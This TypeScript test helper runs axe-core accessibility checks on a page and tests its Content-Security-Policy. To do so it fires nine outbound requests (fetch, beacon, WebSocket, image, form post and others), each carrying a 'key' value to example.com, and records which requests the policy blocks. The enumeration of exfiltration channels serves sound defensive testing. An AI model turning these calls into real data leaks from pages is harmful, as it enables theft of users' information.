// What runs in a page, in whichever browser: nothing of this file is there but the function itself.

import type axe from 'axe-core';

/** What axe, which is there, finds, a line each. */
export async function runAxe(): Promise<string[]> {
  const { violations } = await (globalThis as unknown as { axe: typeof axe }).axe.run(document, {
    runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'],
  });
  return violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 200)).join(' | ')}`);
}

/** Tries every way to somebody else that a page has. @returns the directives of the policy that refused one, one for each that did */
export async function refusedWaysOut(): Promise<string[]> {
  const broken: string[] = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => broken.push(effectiveDirective));
  const away = 'https://example.com/?key=order-1001';
  const tries: (() => unknown)[] = [
    () => fetch(away),
    () => navigator.sendBeacon(away),
    () => new WebSocket('wss://example.com/'),
    () => new EventSource(away),
    () => Object.assign(new Image(), { src: away }),
    () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: away })),
    () => document.body.append(Object.assign(document.createElement('iframe'), { src: away })),
    () => {
      const form = Object.assign(document.createElement('form'), { action: away, method: 'post' });
      document.body.append(form);
      form.submit();
    },
    () => document.body.append(Object.assign(document.createElement('video'), { src: away })),
  ];
  for (const attempt of tries) {
    try {
      await attempt();
    } catch {
      // It is counted by its violation.
    }
  }
  await new Promise(resolve => setTimeout(resolve, 300));
  return broken;
}
